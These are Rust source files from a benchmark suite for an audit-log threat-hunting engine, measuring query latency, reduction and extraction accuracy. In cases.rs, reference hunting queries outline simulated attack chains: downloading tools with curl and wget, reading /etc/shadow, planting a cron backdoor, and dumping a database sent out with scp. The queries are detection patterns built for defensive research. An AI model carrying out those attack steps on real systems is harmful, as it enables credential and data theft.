        fmt::table(
            &[
                "case", "events", "hunts", "matches", "rejected", "pruned", "p50", "p99", "max",
                "top span"
            ],
            &rows
        )
    );
    println!("(per-hunt latency + top-span attribution from each case's MetricsSnapshot;");
    println!(" \"rejected\" = infeasible corpus refused at compile time, \"pruned\" = rows cut by DBM bounds)\n");

    let doc = suite::to_json(&results, args.smoke);
    let problems = suite::validate(&doc);
    if !problems.is_empty() {
        for p in &problems {
            eprintln!("generated record invalid: {p}");
        }
        return ExitCode::FAILURE;
    }
    if let Err(e) = std::fs::write(&args.out, doc.pretty() + "\n") {
        eprintln!("bench_suite: writing {}: {e}", args.out);
        return ExitCode::FAILURE;
    }
    println!("record written to {}", args.out);

    if let Some(path) = &args.diff {
        match load(path) {
            Ok(previous) => print!("\n{}", suite::diff(&doc, &previous)),
            // A missing predecessor is the normal first-run case.
            Err(e) => println!("\nno previous record to diff against ({e})"),
        }
    }
    ExitCode::SUCCESS
}
