//! E11 — live serving: sustained ingest + standing queries + ad-hoc
//! hunts on the event-driven [`HuntServer`].
//!
//! The server (ISSUE 5) replaces hand-polled follow hunts with an
//! ingest-event-driven dispatcher and the per-batch scheduler with a
//! persistent job queue. This experiment measures, under one sustained
//! replay:
//!
//! 1. **delivery latency** — for every alert a standing query pushes
//!    through its subscription channel, the time from the `append` call
//!    that made the delta available (the last append at or below the
//!    delivering snapshot's epoch) to the consumer receiving it —
//!    p50/p90/p99/max over all subscriptions;
//! 2. **ad-hoc hunt latency** — submit→complete time of jobs injected
//!    through the bounded queue while ingest and standing queries run;
//! 3. **totals** — ingest throughput, deltas delivered, exactly-once
//!    accounting (delivered matches vs. a from-scratch batch hunt).
//!
//! `--smoke` runs a reduced configuration for CI.

use std::time::{Duration, Instant};
use threatraptor::prelude::*;
use threatraptor::Registry;
use threatraptor_audit::LogFeed;
use threatraptor_bench::{fmt, suite};
use threatraptor_service::{HuntServer, PlanCache, ServerConfig, ServiceError};
use threatraptor_sync::{Arc, Mutex, PoisonError};

/// Distinct match identities in a result: bindings plus each witness's
/// CPR run identity (entity pair, op, run start). This — not the raw
/// match count — is what follow-mode delivery is exactly-once over:
/// several batch matches sharing one identity (distinct events CPR left
/// separate but with identical pair/op/start) alert once by design.
fn identity_count(result: &HuntResult, store: &ShardedStore) -> usize {
    let keys: std::collections::HashSet<String> = result
        .matches
        .iter()
        .map(|m| {
            let mut bindings: Vec<(&str, u32)> = m
                .bindings
                .iter()
                .map(|(v, id)| (v.as_str(), id.0))
                .collect();
            bindings.sort();
            let mut pats: Vec<String> = m
                .events
                .iter()
                .map(|(pat, positions)| {
                    let witnesses: Vec<String> = positions
                        .iter()
                        .map(|&p| {
                            let e = store.event_at(p);
                            format!("{}>{}:{:?}@{}", e.subject.0, e.object.0, e.op, e.start)
                        })
                        .collect();
                    format!("{pat}={}", witnesses.join(","))
                })
                .collect();
            pats.sort();
            format!("{bindings:?}|{pats:?}")
        })
        .collect();
    keys.len()
}

/// Duration percentile over a sorted sample (nearest-rank).
fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    let rank = ((p / 100.0) * (sorted.len() - 1) as f64).round() as usize;
    sorted[rank.min(sorted.len() - 1)]
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--smoke");
    println!("== E11: event-driven serving (ingest + standing queries + ad-hoc hunts) ==\n");

    let target_events = if smoke { 8_000 } else { 60_000 };
    let chunk = 512;
    let standing: &[&str] = &[
        threatraptor::FIG2_TBQL,
        "proc p read file f return p, f",
        "proc p[\"%/bin/tar%\"] read file f return distinct p, f",
        "proc p write file f[\"%/tmp%\"] return distinct p, f",
    ];
    let ad_hoc = if smoke { 8 } else { 32 };

    let scenario = ScenarioBuilder::new()
        .seed(42)
        .attacks(&AttackKind::ALL)
        .target_events(target_events)
        .build();
    let chunks: Vec<_> = LogFeed::by_events(&scenario.raw, chunk)
        .map(|c| c.expect("well-formed log"))
        .collect();
    println!(
        "scenario: {} raw events in {} chunks | {} standing queries | {} ad-hoc jobs\n",
        scenario.log.events.len(),
        chunks.len(),
        standing.len(),
        ad_hoc
    );

    let server = HuntServer::new(ServerConfig::with_ingest(IngestConfig::with_policy(
        SealPolicy::events(2_000),
    )));

    // Each append records (first epoch it will produce, pre-append
    // instant) — *before* calling append, so a delivery can never beat
    // its own log entry, and measuring from the pre-append instant errs
    // on the conservative (larger) side. A delivery at snapshot epoch E
    // was made available by the last append whose entry is ≤ E.
    let append_log: Arc<Mutex<Vec<(u64, Instant)>>> = Arc::default();
    let availability = |log: &[(u64, Instant)], epoch: u64| -> Option<Instant> {
        log.iter()
            .take_while(|(e, _)| *e <= epoch)
            .last()
            .map(|&(_, t)| t)
    };

    let mut subs = Vec::new();
    for q in standing {
        let (sub, initial) = server.follow(q).expect("valid TBQL");
        assert!(initial.is_empty(), "nothing ingested yet");
        subs.push(sub);
    }

    // Feasibility guardrail: the infeasible corpus is refused at compile
    // time on both entry points, and resubmits hit the cache's rejection
    // memo (no recompilation). Rejection is a pure property of the query
    // text, so this runs before any ingest.
    for q in suite::INFEASIBLE_QUERIES {
        for entry in 0..2 {
            let refused = match entry {
                0 => matches!(server.hunt(q), Err(ServiceError::Infeasible(_))),
                _ => server.follow(q).is_err(),
            };
            assert!(refused, "infeasible query must be rejected: {q}");
        }
    }
    let cache = server.cache_stats();
    assert_eq!(cache.rejections, suite::INFEASIBLE_QUERIES.len());
    assert_eq!(cache.rejection_hits, suite::INFEASIBLE_QUERIES.len());

    let (latencies, job_latencies, delivered, ingest_elapsed, metrics) =
        std::thread::scope(|scope| {
            // One consumer per subscription: receive-only, no polling.
            let consumers: Vec<_> = subs
                .iter()
                .map(|sub| {
                    let append_log = Arc::clone(&append_log);
                    scope.spawn(move || {
                        let mut lat = Vec::new();
                        let mut matches = 0usize;
                        while let Ok(event) = sub.recv() {
                            let now = Instant::now();
                            matches += event.delta.new_matches;
                            let log = append_log.lock().unwrap_or_else(PoisonError::into_inner);
                            if let Some(t) = availability(&log, event.epoch) {
                                lat.push(now.duration_since(t));
                            }
                        }
                        (lat, matches)
                    })
                })
                .collect();

            // The feeder: sustained appends, with ad-hoc jobs injected at a
            // fixed cadence. Each job gets a waiter thread so submit→complete
            // latency is stamped the moment the handle resolves, not when the
            // feed happens to drain it.
            let every = (chunks.len() / ad_hoc).max(1);
            let mut job_waiters = Vec::new();
            let t0 = Instant::now();
            for (i, part) in chunks.iter().enumerate() {
                append_log
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .push((server.ingest().epoch() + 1, Instant::now()));
                server.append(part);
                if i % every == 0 && job_waiters.len() < ad_hoc {
                    let handle = server.submit(HuntJob::tbql(standing[i % standing.len()]));
                    let submitted = Instant::now();
                    job_waiters.push(scope.spawn(move || {
                        let report = handle.wait();
                        assert!(report.outcome.is_ok(), "ad-hoc job under load");
                        submitted.elapsed()
                    }));
                }
            }
            let ingest_elapsed = t0.elapsed();
            let job_latencies: Vec<Duration> = job_waiters
                .into_iter()
                .map(|waiter| waiter.join().expect("job waiter thread"))
                .collect();

            assert!(
                server.wait_caught_up(Duration::from_secs(120)),
                "the dispatcher must drain the stream"
            );
            // Snapshot the metrics *before* shutdown: the standing-query
            // gauge reflects live subscriptions, which shutdown clears.
            let metrics = server.metrics();
            server.shutdown(); // disconnects subscriptions; consumers finish
            let mut latencies = Vec::new();
            let mut delivered = Vec::new();
            for consumer in consumers {
                let (lat, matches) = consumer.join().expect("consumer thread");
                latencies.extend(lat);
                delivered.push(matches);
            }
            (latencies, job_latencies, delivered, ingest_elapsed, metrics)
        });

    // -- 1. delivery latency --------------------------------------------
    let mut sorted = latencies.clone();
    sorted.sort();
    println!(
        "{}",
        fmt::table(
            &["deliveries", "p50", "p90", "p99", "max"],
            &[vec![
                sorted.len().to_string(),
                fmt::dur(percentile(&sorted, 50.0)),
                fmt::dur(percentile(&sorted, 90.0)),
                fmt::dur(percentile(&sorted, 99.0)),
                fmt::dur(sorted.last().copied().unwrap_or_default()),
            ]]
        )
    );
    println!("(append call → subscriber receives the delta; push, no client polls)\n");

    // -- 2. ad-hoc hunts under load -------------------------------------
    let mut sorted = job_latencies.clone();
    sorted.sort();
    println!(
        "{}",
        fmt::table(
            &["ad-hoc jobs", "p50", "p99", "max"],
            &[vec![
                sorted.len().to_string(),
                fmt::dur(percentile(&sorted, 50.0)),
                fmt::dur(percentile(&sorted, 99.0)),
                fmt::dur(sorted.last().copied().unwrap_or_default()),
            ]]
        )
    );
    println!("(submit → completion handle resolves, concurrent with ingest + dispatch)\n");

    // -- 3. totals + exactly-once accounting ----------------------------
    let status = server.status();
    let eps = status.reduction.before as f64 / ingest_elapsed.as_secs_f64();
    println!(
        "ingest: {} raw events in {} ({:.0} events/s) | {} sealed shards | {:.2}x reduced",
        status.reduction.before,
        fmt::dur(ingest_elapsed),
        eps,
        status.sealed_shards,
        status.reduction.factor(),
    );
    let snapshot = server.snapshot();
    let mut rows = Vec::new();
    for (i, q) in standing.iter().enumerate() {
        let batch = ShardedEngine::new(&snapshot).hunt(q).expect("valid TBQL");
        rows.push(vec![
            q.trim()
                .lines()
                .next()
                .unwrap_or_default()
                .chars()
                .take(48)
                .collect(),
            delivered[i].to_string(),
            identity_count(&batch, &snapshot).to_string(),
        ]);
    }
    println!(
        "{}",
        fmt::table(&["standing query", "delivered", "batch identities"], &rows)
    );
    println!(
        "shape check: delivered == batch match identities per query (exactly-once, nothing lost).\n"
    );
    for (i, row) in rows.iter().enumerate() {
        assert_eq!(
            row[1], row[2],
            "query {i}: delivered must equal batch match identities"
        );
    }

    // -- 4. service counters (from the unified telemetry layer) ---------
    let cache = server.cache_stats();
    let queue_wait = metrics.histogram("job_queue_wait_ns", &[]);
    println!(
        "{}",
        fmt::table(
            &[
                "cache hits",
                "misses",
                "rejections",
                "rejection hits",
                "evictions",
                "queue depth",
                "jobs done",
                "standing subs",
                "epoch lag",
                "queue wait p50",
                "queue wait p99",
            ],
            &[vec![
                cache.hits.to_string(),
                cache.misses.to_string(),
                cache.rejections.to_string(),
                cache.rejection_hits.to_string(),
                cache.evictions.to_string(),
                metrics.gauge("job_queue_depth").unwrap_or(0).to_string(),
                metrics
                    .counter("jobs_completed_total")
                    .unwrap_or(0)
                    .to_string(),
                metrics
                    .gauge("follow_subscriptions")
                    .unwrap_or(0)
                    .to_string(),
                metrics
                    .gauge("dispatcher_epoch_lag")
                    .unwrap_or(-1)
                    .to_string(),
                queue_wait
                    .map(|h| fmt::dur(Duration::from_nanos(h.p50)))
                    .unwrap_or_default(),
                queue_wait
                    .map(|h| fmt::dur(Duration::from_nanos(h.p99)))
                    .unwrap_or_default(),
            ]]
        )
    );
    println!("(plan/synthesis cache + job queue, via HuntServer::metrics())");
    assert_eq!(
        metrics.gauge("job_queue_depth"),
        Some(0),
        "the queue must be drained at the end of the run"
    );
    assert_eq!(
        metrics.gauge("follow_subscriptions"),
        Some(standing.len() as i64),
        "every standing query was live when the snapshot was taken"
    );
    assert_eq!(
        metrics.gauge("dispatcher_epoch_lag"),
        Some(0),
        "a caught-up dispatcher has zero epoch lag"
    );

    // -- 5. slow-hunt log -----------------------------------------------
    let slow = server.slow_hunts();
    let rows: Vec<Vec<String>> = slow
        .iter()
        .take(5)
        .map(|p| {
            vec![
                p.job_id.to_string(),
                p.trace_id.to_string(),
                p.status.to_string(),
                fmt::dur(p.queue_wait),
                fmt::dur(p.exec),
                fmt::dur(p.latency),
            ]
        })
        .collect();
    println!(
        "{}",
        fmt::table(
            &["job", "trace", "status", "queue wait", "exec", "latency"],
            &rows
        )
    );
    println!("(worst hunts by end-to-end latency, via HuntServer::slow_hunts())");
    assert!(!slow.is_empty(), "ad-hoc jobs must leave profiles behind");

    // -- 6. incremental follow: delta vs. full re-execution -------------
    // One standing query polled over a growing streaming store, through
    // the incremental path (retained partials, fresh-range scans) and a
    // full-re-execution oracle. Rows-per-poll and poll latency are
    // bucketed by store size: the oracle's grow with the store, the
    // delta path's track the chunk.
    let follow_chunk = 500;
    // Unfiltered on purpose: every poll's scan cost is visible, so the
    // flat-vs-linear separation is about the evaluation strategy, not
    // entity-filter selectivity.
    let follow_query = "proc p read file f return p, f";
    let cache = PlanCache::new();
    let mut hunts: Vec<(&str, FollowHunt, Arc<Registry>)> = [("delta", false), ("full", true)]
        .into_iter()
        .map(|(name, force_full)| {
            let (plan, _) = cache.plan(follow_query).expect("valid TBQL");
            let mut hunt = FollowHunt::new(plan, ExecMode::Scheduled, 1);
            if force_full {
                hunt = hunt.with_full_reexecution();
            }
            let registry = Arc::new(Registry::new());
            hunt.attach_metrics(&registry);
            (name, hunt, registry)
        })
        .collect();
    let mut store = StreamingStore::new(true, SealPolicy::events(2_000));
    store.append_batch(&scenario.log.entities, &[]);
    // Per poll: (store events, rows scanned, latency) per mode.
    let mut samples: Vec<Vec<(usize, u64, Duration)>> = vec![Vec::new(); hunts.len()];
    for batch in scenario.log.events.chunks(follow_chunk) {
        store.append_batch(&[], batch);
        let poll_snapshot = store.snapshot();
        for (i, (_, hunt, registry)) in hunts.iter_mut().enumerate() {
            let rows = registry.counter("follow_rows_scanned_total");
            let before = rows.get();
            let t = Instant::now();
            hunt.poll(&poll_snapshot).expect("valid follow poll");
            samples[i].push((
                poll_snapshot.event_count(),
                rows.get() - before,
                t.elapsed(),
            ));
        }
    }
    let buckets = 4;
    let per = samples[0].len().div_ceil(buckets);
    let mut rows = Vec::new();
    for b in 0..buckets {
        let range = b * per..((b + 1) * per).min(samples[0].len());
        if range.is_empty() {
            continue;
        }
        let mut row = vec![samples[0][range.end - 1].0.to_string()];
        for mode in &samples {
            let slice = &mode[range.clone()];
            let mean_rows =
                slice.iter().map(|(_, r, _)| *r).sum::<u64>() as f64 / slice.len() as f64;
            let mut lat: Vec<Duration> = slice.iter().map(|(_, _, l)| *l).collect();
            lat.sort();
            row.push(format!("{mean_rows:.0}"));
            row.push(fmt::dur(percentile(&lat, 99.0)));
        }
        rows.push(row);
    }
    println!(
        "\n{}",
        fmt::table(
            &[
                "store events",
                "delta rows/poll",
                "delta poll p99",
                "full rows/poll",
                "full poll p99",
            ],
            &rows
        )
    );
    println!("(incremental follow path vs. full re-execution oracle, same query, same stream)");
    let (_, _, delta_registry) = &hunts[0];
    let delta_snapshot = delta_registry.snapshot();
    assert_eq!(
        delta_snapshot.counter("follow_delta_polls_total"),
        Some(samples[0].len() as u64),
        "every incremental poll must take the delta path"
    );
}
