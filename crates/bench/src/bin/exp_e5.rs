//! E5 — query conciseness: TBQL vs SQL vs Cypher.
//!
//! Reconstructs the full paper's conciseness comparison: for each attack
//! case, the size of the TBQL hunting query against the equivalent SQL
//! and Cypher an analyst would have to write over the same schema.

use threatraptor_bench::reference::{cypher_equivalent, size_metrics, sql_equivalent};
use threatraptor_bench::{all_cases, fmt};
use threatraptor_tbql::analyze::analyze;
use threatraptor_tbql::parser::parse_query;
use threatraptor_tbql::printer::print_query;

fn main() {
    println!("== E5: query conciseness (non-whitespace characters) ==\n");
    let mut rows = Vec::new();
    let mut ratios = Vec::new();
    for case in all_cases() {
        let q = parse_query(case.reference_tbql).expect("reference parses");
        let aq = analyze(&q).expect("reference analyzes");
        let tbql = print_query(&q);
        let sql = sql_equivalent(&aq);
        let cypher = cypher_equivalent(&aq);
        let (tc, tw, tl) = size_metrics(&tbql);
        let (sc, sw, sl) = size_metrics(&sql);
        let (cc, cw, cl) = size_metrics(&cypher);
        ratios.push((sc as f64 / tc as f64, cc as f64 / tc as f64));
        rows.push(vec![
            case.name.to_string(),
            format!("{tc} ({tw}w/{tl}l)"),
            format!("{sc} ({sw}w/{sl}l)"),
            format!("{cc} ({cw}w/{cl}l)"),
            format!("{:.1}x", sc as f64 / tc as f64),
            format!("{:.1}x", cc as f64 / tc as f64),
        ]);
    }
    println!(
        "{}",
        fmt::table(
            &["case", "TBQL", "SQL", "Cypher", "SQL/TBQL", "Cypher/TBQL"],
            &rows
        )
    );
    let avg_sql: f64 = ratios.iter().map(|r| r.0).sum::<f64>() / ratios.len() as f64;
    let avg_cy: f64 = ratios.iter().map(|r| r.1).sum::<f64>() / ratios.len() as f64;
    println!("average blow-up: SQL {avg_sql:.1}x, Cypher {avg_cy:.1}x over TBQL");
    println!("\n-- sample: the data-leakage SQL equivalent --\n");
    let case = &all_cases()[0];
    let aq = analyze(&parse_query(case.reference_tbql).unwrap()).unwrap();
    println!("{}", sql_equivalent(&aq));
}
