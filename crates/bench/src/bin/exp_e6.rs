//! E6 — Causality-Preserved Reduction effectiveness.
//!
//! The paper reduces storage by merging excessive events between the same
//! entity pair (§II-B, citing Xu et al. CCS'16). This experiment measures
//! the reduction factor per workload profile and store size, and verifies
//! that hunting results are unchanged by the reduction.

use threatraptor::prelude::*;
use threatraptor_audit::sim::scenario::BenignMix;
use threatraptor_bench::fmt;
use threatraptor_storage::AuditStore;

fn main() {
    println!("== E6: Causality-Preserved Reduction ==\n");
    let profiles: Vec<(&str, BenignMix)> = vec![
        ("server (web+db heavy)", BenignMix::default()),
        (
            "interactive (ssh+builds)",
            BenignMix {
                web: 1,
                builds: 5,
                ssh: 5,
                cron: 1,
                backup: 1,
                updates: 1,
                db: 1,
            },
        ),
        (
            "batch (backup+updates)",
            BenignMix {
                web: 0,
                builds: 1,
                ssh: 0,
                cron: 2,
                backup: 6,
                updates: 3,
                db: 0,
            },
        ),
    ];

    let mut rows = Vec::new();
    for (name, mix) in &profiles {
        for &size in &[50_000usize, 200_000] {
            let scenario = ScenarioBuilder::new()
                .seed(42)
                .attacks(&[AttackKind::DataLeakage])
                .mix(mix.clone())
                .target_events(size)
                .build();
            let store = AuditStore::ingest(&scenario.log, true);
            let stats = store.reduction;
            rows.push(vec![
                name.to_string(),
                stats.before.to_string(),
                stats.after.to_string(),
                format!("{:.2}x", stats.factor()),
                format!("{:.1}%", stats.removed_ratio() * 100.0),
            ]);
        }
    }
    println!(
        "{}",
        fmt::table(
            &[
                "workload",
                "events before",
                "events after",
                "factor",
                "removed"
            ],
            &rows
        )
    );

    // Correctness: CPR must not change hunting results.
    let scenario = ScenarioBuilder::new()
        .seed(42)
        .attacks(&[AttackKind::DataLeakage])
        .target_events(50_000)
        .build();
    let plain = AuditStore::ingest(&scenario.log, false);
    let reduced = AuditStore::ingest(&scenario.log, true);
    let r1 = Engine::new(&plain).hunt(threatraptor::FIG2_TBQL).unwrap();
    let r2 = Engine::new(&reduced).hunt(threatraptor::FIG2_TBQL).unwrap();
    assert_eq!(r1.rows, r2.rows, "CPR changed hunting results!");
    println!(
        "correctness check: hunting results identical with and without CPR ({} rows).",
        r1.rows.len()
    );
}
