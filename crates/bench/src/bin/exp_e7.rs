//! E7 — NLP pipeline throughput ("unsupervised, light-weight").
//!
//! Measures end-to-end extraction latency per corpus report and the
//! per-stage breakdown on the Fig. 2 report. The claim to reproduce:
//! extraction is interactive (well under a second per report) without
//! any trained model.

use std::time::{Duration, Instant};
use threatraptor_bench::corpus::corpus;
use threatraptor_bench::fmt;
use threatraptor_nlp::{pipeline::FIG2_OSCTI_TEXT, ThreatExtractor};

fn main() {
    println!("== E7: NLP extraction pipeline throughput ==\n");
    let extractor = ThreatExtractor::new();
    // Warm up the shared IOC rule set.
    extractor.extract(FIG2_OSCTI_TEXT);

    let mut rows = Vec::new();
    let mut total_bytes = 0usize;
    let mut total_time = Duration::ZERO;
    for report in corpus() {
        let t0 = Instant::now();
        let iters = 10;
        let mut result = None;
        for _ in 0..iters {
            result = Some(extractor.extract(report.text));
        }
        let elapsed = t0.elapsed() / iters;
        let result = result.expect("at least one iteration");
        total_bytes += report.text.len() * iters as usize;
        total_time += t0.elapsed();
        rows.push(vec![
            report.id.to_string(),
            report.text.len().to_string(),
            result.iocs.len().to_string(),
            result.graph.edge_count().to_string(),
            fmt::dur(elapsed),
        ]);
    }
    println!(
        "{}",
        fmt::table(
            &["report", "bytes", "IOCs", "relations", "time/extract"],
            &rows
        )
    );
    let mbps = total_bytes as f64 / 1e6 / total_time.as_secs_f64();
    println!("aggregate throughput: {mbps:.2} MB/s of report text\n");

    // Per-stage breakdown on Fig. 2.
    let result = extractor.extract(FIG2_OSCTI_TEXT);
    let t = result.timings;
    let stage_rows = vec![
        vec!["segmentation".to_string(), fmt::dur(t.segmentation)],
        vec![
            "IOC recognition + protection".to_string(),
            fmt::dur(t.protection),
        ],
        vec!["parsing (+ restore)".to_string(), fmt::dur(t.parsing)],
        vec![
            "annotation + simplification".to_string(),
            fmt::dur(t.annotation),
        ],
        vec!["coreference".to_string(), fmt::dur(t.coref)],
        vec!["IOC scan & merge".to_string(), fmt::dur(t.merge)],
        vec!["relation extraction".to_string(), fmt::dur(t.relext)],
        vec!["graph construction".to_string(), fmt::dur(t.construct)],
        vec!["total".to_string(), fmt::dur(t.total)],
    ];
    println!(
        "{}",
        fmt::table(&["stage (Fig. 2 report)", "time"], &stage_rows)
    );
    assert!(
        t.total < Duration::from_secs(1),
        "extraction must stay interactive"
    );
    println!("shape check: total well under one second per report — holds.");
}
