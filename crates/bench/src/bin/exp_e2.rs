//! E2 — threat behavior extraction accuracy.
//!
//! Reconstructs the full-length paper's extraction-accuracy evaluation:
//! precision/recall/F1 of IOC extraction and of IOC relation extraction,
//! per report family and overall, over the annotated OSCTI corpus.

use std::collections::BTreeMap;
use threatraptor_bench::corpus::corpus;
use threatraptor_bench::fmt;
use threatraptor_bench::metrics::{extraction_scores, Prf};

fn main() {
    println!("== E2: threat behavior extraction accuracy ==\n");

    let mut per_family: BTreeMap<&str, (Prf, Prf, usize)> = BTreeMap::new();
    let mut total = (Prf::default(), Prf::default());
    for report in corpus() {
        let (ioc, rel) = extraction_scores(&report);
        let entry = per_family
            .entry(report.family)
            .or_insert((Prf::default(), Prf::default(), 0));
        entry.0.merge(ioc);
        entry.1.merge(rel);
        entry.2 += 1;
        total.0.merge(ioc);
        total.1.merge(rel);
    }

    let mut rows = Vec::new();
    for (family, (ioc, rel, n)) in &per_family {
        rows.push(vec![
            family.to_string(),
            n.to_string(),
            fmt::f3(ioc.precision()),
            fmt::f3(ioc.recall()),
            fmt::f3(ioc.f1()),
            fmt::f3(rel.precision()),
            fmt::f3(rel.recall()),
            fmt::f3(rel.f1()),
        ]);
    }
    rows.push(vec![
        "overall".into(),
        per_family
            .values()
            .map(|(_, _, n)| n)
            .sum::<usize>()
            .to_string(),
        fmt::f3(total.0.precision()),
        fmt::f3(total.0.recall()),
        fmt::f3(total.0.f1()),
        fmt::f3(total.1.precision()),
        fmt::f3(total.1.recall()),
        fmt::f3(total.1.f1()),
    ]);
    println!(
        "{}",
        fmt::table(
            &["family", "reports", "IOC P", "IOC R", "IOC F1", "Rel P", "Rel R", "Rel F1"],
            &rows
        )
    );
    println!(
        "shape check: IOC F1 ({:.3}) >= relation F1 ({:.3}) — {}",
        total.0.f1(),
        total.1.f1(),
        if total.0.f1() >= total.1.f1() {
            "holds"
        } else {
            "VIOLATED"
        }
    );
}
