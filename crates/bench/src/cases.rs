//! The four attack cases: simulated attack, OSCTI report describing it,
//! and the analyst-written reference TBQL query.
//!
//! These drive E1 (end-to-end), E3 (execution efficiency), E5
//! (conciseness), and E8 (synthesis correctness).

use threatraptor_audit::sim::scenario::AttackKind;
use threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT;

use crate::corpus::{DB_EXFIL_REPORT, MALWARE_DROP_REPORT, PASSWORD_CRACK_REPORT};

/// One attack case.
#[derive(Debug, Clone, Copy)]
pub struct AttackCase {
    /// Simulator attack.
    pub kind: AttackKind,
    /// Display name.
    pub name: &'static str,
    /// OSCTI report text describing the attack.
    pub report: &'static str,
    /// The hunting query a security analyst would write by hand (TBQL).
    pub reference_tbql: &'static str,
}

/// Reference query for the password-cracking case.
pub const PASSWORD_CRACK_TBQL: &str = r#"
proc p1["%/usr/bin/curl%"] connect ip i1["162.125.6.2"] as evt1
p1 write file f1["%/tmp/cloud.jpg%"] as evt2
proc p2["%/usr/bin/wget%"] connect ip i2["192.168.29.128"] as evt3
p2 write file f2["%/tmp/cracker%"] as evt4
proc p3["%/tmp/cracker%"] read file f3["%/etc/shadow%"] as evt5
p3 write file f4["%/tmp/passwords.txt%"] as evt6
with evt1 before evt2, evt2 before evt3, evt3 before evt4,
     evt4 before evt5, evt5 before evt6
return distinct p1, i1, f1, p2, i2, f2, p3, f3, f4
"#;

/// Reference query for the malware-drop case.
pub const MALWARE_DROP_TBQL: &str = r#"
proc p1["%/usr/bin/wget%"] connect ip i1["203.0.113.66"] as evt1
p1 write file f1["%/tmp/.hidden/payload%"] as evt2
proc p2["%/tmp/.hidden/payload%"] connect ip i2["203.0.113.66"] as evt3
p2 write file f2["%/etc/cron.d/backdoor%"] as evt4
with evt1 before evt2, evt2 before evt3, evt3 before evt4
return distinct p1, i1, f1, p2, i2, f2
"#;

/// Reference query for the database-exfiltration case.
pub const DB_EXFIL_TBQL: &str = r#"
proc p1["%/usr/bin/pg_dump%"] read file f1["%/var/lib/pgdata/base/13400/16384%"] as evt1
p1 write file f2["%/tmp/db.sql%"] as evt2
proc p2["%/bin/gzip%"] read f2 as evt3
p2 write file f3["%/tmp/db.sql.gz%"] as evt4
proc p3["%/usr/bin/scp%"] read f3 as evt5
p3 connect ip i1["198.51.100.77"] as evt6
with evt1 before evt2, evt2 before evt3, evt3 before evt4,
     evt4 before evt5, evt5 before evt6
return distinct p1, f1, f2, p2, f3, p3, i1
"#;

/// All four attack cases.
pub fn all_cases() -> Vec<AttackCase> {
    vec![
        AttackCase {
            kind: AttackKind::DataLeakage,
            name: "data-leakage",
            report: FIG2_OSCTI_TEXT,
            reference_tbql: threatraptor_tbql::parser::FIG2_TBQL,
        },
        AttackCase {
            kind: AttackKind::PasswordCrack,
            name: "password-crack",
            report: PASSWORD_CRACK_REPORT,
            reference_tbql: PASSWORD_CRACK_TBQL,
        },
        AttackCase {
            kind: AttackKind::MalwareDrop,
            name: "malware-drop",
            report: MALWARE_DROP_REPORT,
            reference_tbql: MALWARE_DROP_TBQL,
        },
        AttackCase {
            kind: AttackKind::DbExfil,
            name: "db-exfil",
            report: DB_EXFIL_REPORT,
            reference_tbql: DB_EXFIL_TBQL,
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_tbql::analyze::analyze;
    use threatraptor_tbql::parser::parse_query;

    #[test]
    fn reference_queries_parse_and_analyze() {
        for case in all_cases() {
            let q =
                parse_query(case.reference_tbql).unwrap_or_else(|e| panic!("{}: {e}", case.name));
            analyze(&q).unwrap_or_else(|e| panic!("{}: {e}", case.name));
        }
    }

    #[test]
    fn pattern_counts_match_hunted_steps() {
        for case in all_cases() {
            let q = parse_query(case.reference_tbql).unwrap();
            assert_eq!(
                q.pattern_count() as u32,
                case.kind.hunted_step_count(),
                "case {}",
                case.name
            );
        }
    }
}
