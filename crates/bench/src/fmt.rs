//! Plain-text table formatting for the experiment binaries.

/// Renders an aligned table with a header row.
pub fn table(headers: &[&str], rows: &[Vec<String>]) -> String {
    let cols = headers.len();
    // Widths in characters (not bytes): cells may contain `µ` etc.
    let clen = |s: &str| s.chars().count();
    let mut widths: Vec<usize> = headers.iter().map(|h| clen(h)).collect();
    for row in rows {
        assert_eq!(row.len(), cols, "row arity must match headers");
        for (i, cell) in row.iter().enumerate() {
            widths[i] = widths[i].max(clen(cell));
        }
    }
    let mut out = String::new();
    let rule = |out: &mut String| {
        for w in &widths {
            out.push('+');
            out.push_str(&"-".repeat(w + 2));
        }
        out.push_str("+\n");
    };
    rule(&mut out);
    for (i, h) in headers.iter().enumerate() {
        out.push_str(&format!("| {h:<w$} ", w = widths[i]));
    }
    out.push_str("|\n");
    rule(&mut out);
    for row in rows {
        for (i, cell) in row.iter().enumerate() {
            out.push_str(&format!("| {cell:<w$} ", w = widths[i]));
        }
        out.push_str("|\n");
    }
    rule(&mut out);
    out
}

/// Formats a float with 3 decimals.
pub fn f3(v: f64) -> String {
    format!("{v:.3}")
}

/// Formats a duration in adaptive units.
pub fn dur(d: std::time::Duration) -> String {
    let us = d.as_micros();
    if us < 1_000 {
        format!("{us} µs")
    } else if us < 1_000_000 {
        format!("{:.2} ms", us as f64 / 1_000.0)
    } else {
        format!("{:.3} s", us as f64 / 1_000_000.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    #[test]
    fn table_layout() {
        let t = table(
            &["case", "time"],
            &[
                vec!["data-leakage".into(), "1.2 ms".into()],
                vec!["db-exfil".into(), "900 µs".into()],
            ],
        );
        let lines: Vec<&str> = t.lines().collect();
        assert_eq!(lines.len(), 6);
        let width = lines[0].chars().count();
        assert!(lines.iter().all(|l| l.chars().count() == width), "{t}");
        assert!(t.contains("| data-leakage |"));
    }

    #[test]
    fn duration_units() {
        assert_eq!(dur(Duration::from_micros(500)), "500 µs");
        assert_eq!(dur(Duration::from_micros(2_500)), "2.50 ms");
        assert_eq!(dur(Duration::from_millis(1_500)), "1.500 s");
        assert_eq!(f3(0.12345), "0.123");
    }

    #[test]
    #[should_panic(expected = "row arity")]
    fn arity_mismatch_panics() {
        table(&["a"], &[vec!["x".into(), "y".into()]]);
    }
}
