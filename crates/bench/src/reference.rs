//! Verbose SQL and Cypher equivalents of TBQL queries, for the
//! conciseness experiment (E5).
//!
//! The paper motivates TBQL against "general-purpose query languages
//! (e.g., SQL, Cypher) that are low-level and verbose" (§II-D). These
//! renderers produce the queries an analyst would have to hand-write
//! against the same schema: entity/event tables joined per pattern (SQL),
//! or explicit MATCH chains (Cypher). Rendering from the analyzed AST
//! keeps the equivalents honest — they express exactly the same
//! constraints, with no padding.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use threatraptor_tbql::analyze::AnalyzedQuery;
